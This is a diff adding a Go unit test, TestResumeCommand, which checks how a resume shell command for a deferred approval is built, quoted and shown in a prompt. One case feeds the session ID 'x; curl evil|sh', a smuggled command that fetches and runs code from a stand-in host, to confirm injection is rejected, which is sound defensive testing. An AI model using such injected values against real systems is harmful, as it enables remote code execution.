@@ -277,3 +277,29 @@ func TestDiff(t *testing.T) {
 }
 
 func ptr(s string) *string { return &s }
+
+func TestResumeCommand(t *testing.T) {
+	tests := []struct {
+		name string
+		a    gate.Approval
+		want string
+	}{
+		{"not deferred", gate.Approval{SessionID: "3f6d87cc-d83b", Cwd: "/w"}, ""},
+		{"deferred", gate.Approval{Deferred: true, SessionID: "3f6d87cc-d83b", Cwd: "/home/ana/my proj"}, "cd '/home/ana/my proj' && claude -p --resume 3f6d87cc-d83b"},
+		{"quote in cwd", gate.Approval{Deferred: true, SessionID: "s1", Cwd: "/tmp/it's"}, `cd '/tmp/it'\''s' && claude -p --resume s1`},
+		{"no cwd", gate.Approval{Deferred: true, SessionID: "s1"}, "claude -p --resume s1"},
+		{"no session", gate.Approval{Deferred: true, Cwd: "/w"}, ""},
+		{"session with shell text", gate.Approval{Deferred: true, SessionID: "x; curl evil|sh", Cwd: "/w"}, ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := ResumeCommand(&tt.a); got != tt.want {
+				t.Errorf("ResumeCommand = %q, want %q", got, tt.want)
+			}
+			c := Build(&tt.a, time.Now())
+			if has := strings.Contains(c.Text(), "Resume: "); has != (tt.want != "") {
+				t.Errorf("prompt shows a Resume line: %v, want %v:\n%s", has, tt.want != "", c.Text())
+			}
+		})
+	}
+}
